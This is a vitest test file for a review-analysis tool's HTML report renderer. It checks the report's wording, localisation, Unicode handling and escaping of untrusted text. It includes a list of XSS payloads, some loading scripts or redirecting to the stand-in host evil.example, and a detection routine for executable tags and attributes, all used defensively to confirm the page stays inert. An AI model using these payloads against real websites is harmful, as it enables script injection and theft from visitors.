import { parseHTML } from 'linkedom'
import { describe, expect, test } from 'vitest'
import type { Listing, Verdict } from '../../src/engine/types.ts'
import { html } from '../../src/report/html/markup.ts'
import { reportHtml } from '../../src/report/html.ts'
import type { Report } from '../../src/report/json.ts'
import { reveal } from '../../src/report/reveal.ts'
import type { Language } from '../../src/report/words/index.ts'
import { WORDS } from '../words.ts'
import { flask, kettle, reportOf } from './fixture.ts'

const report = (
  made: { listing: Listing; verdict: Verdict },
  language: Language = 'en',
  rest: Partial<Report> = {},
): Promise<Report> =>
  reportOf({ ...made, words: WORDS[language] }, { caseId: 'case-20261123-amazon-B0FLASK500-0badcafe', ...rest })

const written = (made: Report): string => reportHtml(made, WORDS[made.language])
const page = (source: string): Document => parseHTML(source).document
const text = (document: Document, selector: string): string[] =>
  [...document.querySelectorAll(selector)].map((element) => element.textContent ?? '')

/** Everything a browser might run or fetch. */
function dangers(document: Document): string[] {
  const found: string[] = []
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName
    if (
      /^(script|iframe|frame|object|embed|link|base|form|input|button|img|video|audio|source|image|use|foreignobject|animate|set|a)$/i.test(
        name,
      )
    ) {
      if (name !== 'a' || !/^#r\d+$/.test(element.getAttribute('href') ?? '')) found.push(name)
    }
    for (const { name: attribute, value } of [...element.attributes]) {
      if (
        /^on/i.test(attribute) ||
        /^(src|srcset|srcdoc|action|formaction|data|poster|background|ping|xlink:href)$/i.test(attribute)
      )
        found.push(attribute)
      if (attribute === 'style' && !(name === 'body' && /^--band:var\(--[a-z-]+\)$/.test(value)))
        found.push(`style=${value}`)
      if (attribute === 'href' && name !== 'a') found.push('href')
      if (attribute === 'http-equiv' && value !== 'Content-Security-Policy') found.push(value)
    }
  }
  return found
}

describe('the page', async () => {
  const source = written(await report(flask()))
  const document = page(source)

  test('runs nothing, loads nothing, and forbids both', async () => {
    expect(dangers(document)).toEqual([])
    expect(source).not.toMatch(/url\(|@import/)
    const policy = document.querySelector('meta[http-equiv]')?.getAttribute('content')
    expect(policy).toMatch(/^default-src 'none'; style-src 'unsafe-inline';/)
  })

  test('says what was counted, the sample, and no total', () => {
    const said = document.body.textContent ?? ''
    for (const part of [
      '17 of 86 reviews kept have the features counted below',
      '86 of 1,234 reviews read',
      'A lead, not an accusation',
      'https://www.amazon.com/dp/B0FLASK500',
      '2026-11-23 12:40 UTC',
      'Brushlight 0.1.0',
      'Maple Street Outdoor',
      'Dates: not found in 4 of 86 reviews',
      'Purchase marks: not measured, too few reviews',
      'Little content',
    ])
      expect(said).toContain(part)
    expect(said).not.toMatch(/\b47\b|interval|score\b|4\.1 ★|Strong signs|22%/i)
  })

  test('gives every reason in order, with quotes marked and ordinary explanations', async () => {
    expect(text(document, '.evidence h3')).toEqual([
      '2 reviewers say that good stars were rewarded',
      '6 reviewers posted the same picture',
      '9 reviews by different people share most of their text',
      'In a busy period 14 reviews (100%) have 5 stars, 34% around it',
      '14 reviews in a short period, where about 1 is usual',
    ])
    expect(text(document, 'mark')).toEqual([
      'card said $10 back for five stars',
      'five star review to WeChat: [hidden: chat account] and get a voucher',
      ...Array.from({ length: 3 }, () => 'goes everywhere with us, the lid never leaks and the colour is lovely'),
    ])
    expect(text(document, '.ordinary li').length).toBe(8)
  })

  test('every reference leads to a review in the list, and the list holds those with signs', async () => {
    const links = [...document.querySelectorAll('.ids a')].map((link) => link.getAttribute('href')?.slice(1) ?? '')
    expect(links.length).toBeGreaterThan(20)
    for (const id of links) expect(document.getElementById(id)).not.toBeNull()
    expect(document.querySelectorAll('.list > li').length).toBe(17)
  })

  test('draws every dated review once', async () => {
    const bars = [...document.querySelectorAll('figure rect')]
    const height = bars.reduce((sum, bar) => sum + Number(bar.getAttribute('height')), 0)
    const tallest = 16
    expect(Math.round((height / 120) * tallest)).toBe(82)
    expect(document.body.textContent).toContain('4 reviews without a date not drawn')
  })

  test('a listing without findings gives a neutral record', async () => {
    const made = flask()
    const verdict: Verdict = { ...made.verdict, band: 'not-enough-data', score: null, findings: [] }
    const empty = page(written(await report({ ...made, verdict })))
    expect(empty.querySelector('.say')?.textContent).toBe(
      'None of the 86 reviews kept shares a counted feature with others',
    )
    expect(empty.body.textContent).toContain('None of the patterns that could be measured was seen.')
    expect(empty.body.textContent).not.toMatch(/null|NaN|undefined/)
  })

  test('a finding without weight is counted, not given as a reason', async () => {
    const made = flask()
    const findings = made.verdict.findings.map((one) =>
      one.kind === 'measured' && one.signal === 'burst' ? { ...one, weight: 0 } : one,
    )
    const shown = page(written(await report({ ...made, verdict: { ...made.verdict, findings } })))
    expect(text(shown, '.evidence h3').join()).not.toContain('short period')
    const notes = text(shown, '.notes section')
    expect(notes.find((part) => part.startsWith('Counted'))).toContain('14 reviews in a short period')
    expect(notes.find((part) => part.startsWith('Looked for'))).not.toContain('Bursts')
  })

  test('Chinese throughout for Chinese', async () => {
    const chinese = page(written(await report(kettle(), 'zh-CN')))
    expect(chinese.documentElement.getAttribute('lang')).toBe('zh-CN')
    const said = chinese.body.textContent ?? ''
    for (const part of [
      '这是线索，不是指控',
      '留存的 6 条评价中，3 条有下列现象',
      '已读 6 条，商家未显示总数',
      '2026-11-23 20:40（北京时间，UTC 2026-11-23 12:40）',
      '部分评价需要登录',
      '评价者：6 条评价中有 1 条未读到',
      '文中 4 处个人信息已隐去',
    ])
      expect(said).toContain(part)
    expect(text(chinese, 'mark')[0]).toContain('[已隐去：社交账号]')
  })
})

const PAYLOADS = [
  '<script>top.pwned=1</script>',
  '"><img src=x onerror=top.pwned=1>',
  "'><svg onload=top.pwned=1>",
  '</style></title></textarea><script src=//evil.example/x></script>',
  'javascript:top.pwned=1',
  '<a href="javascript:top.pwned=1">x</a>',
  '<iframe srcdoc="<script>1</script>">',
  '--><!--<meta http-equiv=refresh content="0;url=//evil.example">',
  '<bdi></bdi></p></li></main><base href=//evil.example>',
  '&lt;script&gt;&#60;script&#62;',
  '<style>*{background:url(//evil.example)}</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '<math><mtext></p><style><img src onerror=alert(1)>',
]

/** The fixture with a payload in every field a page fills. */
function hostile(payload: string): { listing: Listing; verdict: Verdict } {
  const { listing, verdict } = flask()
  const rename = (id: string): string => `${id}${payload}`
  const put = <T extends string | null>(value: T): T | string => (value === null ? value : `${value} ${payload}`)
  const photos = (list: Listing['photos']): Listing['photos'] =>
    list.map(() => ({ url: payload, asset: payload, hash: payload }))
  return {
    listing: {
      ...listing,
      site: put(listing.site),
      id: put(listing.id),
      url: payload,
      title: put(listing.title),
      seller: { id: payload, name: payload },
      photos: photos(listing.photos),
      gaps: listing.gaps.map(() => ({ field: payload, why: payload })),
      reviews: listing.reviews.map((review) => ({
        ...review,
        id: rename(review.id),
        text: review.text === '' ? '' : put(review.text),
        title: put(review.title),
        variant: payload,
        programme: payload,
        language: payload,
        reviewer: { id: payload, name: payload, reviewCount: 1, level: payload },
        photos: photos(review.photos),
        followUps: review.followUps.map((one) => ({ text: payload, postedOn: one.postedOn })),
      })),
    },
    verdict: {
      ...verdict,
      engine: payload,
      reviews: verdict.reviews.map((review) => ({ ...review, id: rename(review.id) })),
      findings: verdict.findings.map((finding) =>
        finding.kind === 'abstained'
          ? finding
          : {
              ...finding,
              evidence: finding.evidence.map((one) => ({
                ...one,
                reviews: one.reviews.map(rename),
                quotes: one.quotes.map((quote) => ({ ...quote, review: rename(quote.review), end: quote.end + 999 })),
              })),
            },
      ),
    },
  }
}

const tags = (document: Document): string =>
  [...document.querySelectorAll('*')].map(({ localName }) => localName).join(' ')

describe('hostile page text', async () => {
  // No time is a wrong clock, of which a report says a sentence.
  const calm = tags(page(written(await report(hostile('calm'), 'en', { madeAt: 'calm' }))))

  test.each(PAYLOADS)('stays text: %s', async (payload) => {
    const source = written(
      await report(hostile(payload), 'en', {
        tool: { name: payload, version: payload },
        madeAt: payload,
        caseId: payload,
      }),
    )
    const document = page(source)
    expect(dangers(document)).toEqual([])
    expect(tags(document)).toBe(calm)
    expect(document.querySelector('h1')?.textContent).toContain(payload)
    expect(document.querySelector('.facts')?.textContent).toContain(payload)
    expect(text(document, 'mark').some((marked) => marked.includes(payload))).toBe(true)
  })

  test('the check itself sees danger', async () => {
    expect(dangers(page('<body><a href="javascript:1">x</a><img src=x onerror=1><p style="x">'))).not.toEqual([])
  })

  test('what cannot be seen is shown, and cannot reorder the line', async () => {
    const made = flask()
    const listing = { ...made.listing, title: 'abc\u202edef\u2066\u200b' }
    const source = written(await report({ ...made, listing }))
    expect(page(source).querySelector('h1 bdi')?.textContent).toBe('abc⟦U+202E⟧def⟦U+2066⟧⟦U+200B⟧')
    expect(source).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/)
  })
})

test('a template takes strings for text, in content and in attributes, and its own markup for markup', async () => {
  expect(html`<b title="${'"\'<&>'}">${'<i>'}${null}${[1, html`<u>`]}</b>`.toString()).toBe(
    '<b title="&quot;&#39;&lt;&amp;&gt;">&lt;i&gt;1<u></b>',
  )
})

describe('reveal', () => {
  test.each([
    ['e\u0301a\u0323\u0302', 'e\u0301a\u0323\u0302'],
    [`a${'\u0301'.repeat(20)}b`, `a${'\u0301'.repeat(4)}⟦+16⟧b`],
    ['👩‍🍳 👩🏽‍🚀 🏳️‍🌈', '👩‍🍳 👩🏽‍🚀 🏳️‍🌈'],
    ['می‌خواهم', 'می‌خواهم'],
    ['क्‍ष', 'क्‍ष'],
    ['a\u200db\u200cc', 'a⟦U+200D⟧b⟦U+200C⟧c'],
    ['\ud800x\udc00', '⟦U+D800⟧x⟦U+DC00⟧'],
    ['a\r\nb\rc\nd\te', 'a\nb\nc\nd\te'],
    ['\u0000\u001b[31m\u0085', '⟦U+0000⟧⟦U+001B⟧[31m⟦U+0085⟧'],
    ['\u{e0041}', '⟦U+E0041⟧'],
    ['\u202e\u202ex\u200b\u200b\u200b\u200b', '⟦U+202E⟧⟦U+202E⟧x⟦U+200B ×4⟧'],
  ])('%j', (given, shown) => expect(reveal(given)).toBe(shown))
})
